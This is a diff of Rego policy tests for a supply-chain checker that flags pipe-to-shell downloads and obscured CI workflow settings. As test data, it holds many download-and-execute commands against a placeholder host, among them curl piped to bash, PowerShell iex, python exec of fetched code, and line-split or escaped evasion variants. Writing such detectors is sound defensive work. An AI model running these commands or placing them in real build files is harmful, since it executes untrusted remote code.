@@ -162,9 +162,81 @@ test_downloads_that_are_run if {
 		"iex ((New-Object Net.WebClient).DownloadString('https://x.example'))",
 		"  | bash",
 		"curl https://x.example/get.py | python3 -",
+		`bash <<< "$(curl -s https://x.example/i)"`,
+		"curl https://x.example | exec env -i A=b bash",
+		"curl https://x.example | xargs -0 sh -c",
+		"python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
 	] {
 		said([adding("build.sh", [text])]) == {"require_approval pipe-to-shell"}
 		said([adding(".gitlab-ci.yml", [text])]) == {"require_approval pipe-to-shell"}
+	}
+}
+
+test_downloads_over_several_lines if {
+	every texts in [
+		["curl -fsSL https://x.example/i.sh |", "  bash"],
+		["curl -fsSL https://x.example/i.sh | # install", "# it", "", "  sudo -E bash -"],
+		["RUN curl -fsSL https://x.example/i.sh \\", "    -o - \\", "    | sh -s -- -y"],
+		["cu\\", "rl https://x.example/i.sh | s\\", "h"],
+		[`bash -c \`, `  "$(curl -fsSL https://x.example/i.sh)"`],
+		["eval \"$(", "  curl -s https://x.example", ")\""],
+		["iwr https://x.example/i.ps1 |", "  iex"],
+		["Invoke-WebRequest https://x.example/i.ps1 \u0060", "  | Invoke-Expression"],
+	] {
+		said([adding("build.sh", array.concat(["set -e"], texts))]) == {"require_approval pipe-to-shell"}
+		workflow_of(texts) == {"require_approval pipe-to-shell"}
+		said([adding("Dockerfile", texts)]) == {"require_approval pipe-to-shell"}
+	}
+	every texts in [
+		["curl -fsSL https://x.example/a.json |", "  jq .name"],
+		["curl -o a.tgz https://x.example/a.tgz &&", "  tar xzf a.tgz"],
+		["RUN apk add --no-cache curl \\", "    bash \\", "    git"],
+		["# curl https://x.example |", "sh test.sh"],
+	] {
+		said([adding("build.sh", texts)]) == set()
+	}
+	findings := supply_chain.require_approval with input as plan([adding("build.sh", ["set -e", "curl https://x.example |", "  sh"])])
+	{finding.line | some finding in findings} == {2}
+	indented := swap("build.sh", ["curl https://x.example |", "  sh"], ["  curl https://x.example |", "    sh"])
+	said([indented]) == set()
+}
+
+workflow_of(texts) := said([adding(".github/workflows/a.yml", array.concat(["      - run: |"], [concat("", ["          ", text]) | some text in texts]))])
+
+test_shells_behind_a_line_that_is_not_shown if {
+	every text in ["  sh", "  sudo bash", "    bash -s -- --yes", "  /bin/sh -"] {
+		said([{"path": "build.sh", "added": [{"line": 7, "text": text}]}]) == {"require_approval pipe-continued"}
+	}
+	said([{"path": "build.sh", "added": [{"line": 7, "text": "set -e"}, {"line": 8, "text": "  bash"}]}]) == set()
+	every text in ["    bash \\", "bash test.sh", "  shell: bash", "  - bash"] {
+		said([{"path": "build.sh", "added": [{"line": 7, "text": text}]}]) == set()
+	}
+}
+
+test_scripts_without_an_ending if {
+	piped := "curl https://x.example | sh"
+	said([adding("bin/setup", ["#!/usr/bin/env bash", piped])]) == {"require_approval pipe-to-shell"}
+	said([object.union(adding("bin/setup", ["", piped]), {"executable": true})]) == {"require_approval pipe-to-shell"}
+	said([adding("docs/setup", ["Run", piped])]) == set()
+	said([adding("README.md", [piped])]) == set()
+}
+
+test_workflows_that_hide_what_they_say if {
+	every text in [
+		`      - "\u0075ses": evil/x@main`,
+		`      - run: "c\x75rl https://x.example"`,
+		"      - ? uses",
+		"      - uses:",
+		"      - uses: >-",
+		"      - uses: *action",
+		"permissions: *all",
+	] {
+		workflow(text) == {"require_approval workflow-obscured"}
+	}
+	workflow("  write-all") == {"require_approval workflow-write-all"}
+	workflow("      write") == {"require_approval workflow-write"}
+	every text in [`      - run: printf "\x1b[31m%s\n" done`, "permissions:", "on:", "      - name: what? why", "    steps: *common"] {
+		workflow(text) == set()
 	}
 }
 
